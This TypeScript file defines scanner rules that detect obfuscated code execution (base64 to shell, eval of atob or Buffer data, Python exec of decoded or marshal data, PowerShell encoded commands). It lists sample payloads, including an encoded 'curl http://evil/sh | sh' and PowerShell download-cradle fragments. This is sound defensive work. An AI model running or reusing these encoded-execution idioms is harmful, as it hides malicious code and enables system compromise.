import type { PatternRule } from '../rule.js';

export const ENCODED_EXEC_RULES: readonly PatternRule[] = [
  {
    id: 'patterns/encoded-exec-shell',
    severity: 'high',
    certainty: 0.85,
    message: 'Decodes base64 and pipes or evaluates the result as shell code, hiding what runs.',
    strings: {
      pipe: String.raw`\bbase64\s{1,4}(-d|--decode|-D|-di|-id)\b[^\n|;]{0,80}\|\s{0,4}(sudo\s{1,4})?(/usr)?(/s?bin/)?(ba|z|k|da)?sh\b`,
      subst: String.raw`\b(eval|(ba|z|k|da)?sh\s{1,4}-c)\s{1,4}["']?\$\(\s{0,4}(echo|printf)\s[^\n)]{8,600}\|\s{0,4}base64\s{1,4}(-d|--decode)`,
    },
    examples: {
      match: ['echo ZWNobyBwd25lZAo= | base64 -d | bash', 'base64 --decode <<< "$P" | sudo sh', 'bash -c "$(echo Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo | base64 -d)"', "eval \"$(printf '%s' aWQ7IHdob2FtaQ== | base64 --decode)\""],
      notMatch: ['echo aGVsbG8= | base64 -d > hello.txt', 'base64 -d key.b64 > key.bin; sha256sum key.bin'],
    },
  },
  {
    id: 'patterns/encoded-exec-js',
    severity: 'high',
    certainty: 0.75,
    message: 'JavaScript that evaluates base64-decoded or character-code-built text as code, hiding what runs.',
    strings: {
      atob: String.raw`\b(eval|Function)\s{0,4}\(\s{0,4}(window\.|self\.|globalThis\.)?atob\s{0,4}\(`,
      buffer: String.raw`\beval\s{0,4}\(\s{0,4}Buffer\.from\s{0,4}\([^;\n)]{1,200},\s{0,4}["']base64["']`,
      charcode: String.raw`\beval\s{0,4}\(\s{0,4}String\.fromCharCode\s{0,4}\(`,
    },
    examples: {
      match: ["eval(atob('YWxlcnQoMSk='))", "new Function(window.atob(payload))()", "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp', 'base64').toString())", 'eval(String.fromCharCode(97,108,101,114,116,40,49,41))'],
      notMatch: ["const text = atob('aGVsbG8=');", "const buf = Buffer.from(data, 'base64');", 'eval(expression)'],
    },
  },
  {
    id: 'patterns/encoded-exec-python',
    severity: 'high',
    certainty: 0.8,
    message: 'Python that executes base64-, zlib- or marshal-decoded data as code, hiding what runs.',
    strings: {
      exec: String.raw`\b(exec|eval)\s{0,4}\(\s{0,4}(compile\s{0,4}\(\s{0,4})?((zlib|bz2|lzma|gzip)\.decompress\s{0,4}\(\s{0,4})?(base64\.(b64|b32|b16|b85|a85|urlsafe_b64)decode|__import__\s{0,4}\(\s{0,4}["'](base64|zlib|codecs|marshal)["']\s{0,4}\)|marshal\.loads|codecs\.decode)`,
    },
    examples: {
      match: ["exec(base64.b64decode('cHJpbnQoMSk='))", "exec(zlib.decompress(base64.b64decode(blob)))", "exec(__import__('base64').b64decode(x))", 'exec(marshal.loads(data))', "eval(compile(base64.b64decode(src), '<s>', 'exec'))"],
      notMatch: ['data = base64.b64decode(s)', "exec(compile(source, path, 'exec'))"],
    },
  },
  {
    id: 'patterns/encoded-exec-powershell',
    severity: 'high',
    certainty: 0.85,
    message: 'PowerShell running a base64-encoded command (-EncodedCommand or FromBase64String into Invoke-Expression), hiding what runs.',
    strings: {
      enc: String.raw`(?i)\b(powershell|pwsh)(\.exe)?\s([^\n]{0,120}\s)?[-/](e|ec|en|enc|enco|encod|encode|encoded|encodedc|encodedcommand)\s{1,4}["']?[A-Za-z0-9+/]{20,800}`,
      iex_first: String.raw`(?i)\b(iex|invoke-expression)\b[^\n]{0,160}FromBase64String\s{0,4}\(`,
      iex_last: String.raw`(?i)FromBase64String\s{0,4}\([^\n]{0,300}\|\s{0,4}(iex|invoke-expression)\b`,
    },
    examples: {
      match: [
        'powershell.exe -NoP -NonI -W Hidden -Enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==',
        'pwsh -ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
        'IEX ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($p)))',
        '[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b)) | iex',
      ],
      notMatch: ['powershell -ExecutionPolicy Bypass -File .\\build.ps1', '$bytes = [Convert]::FromBase64String($cert)'],
    },
  },
];
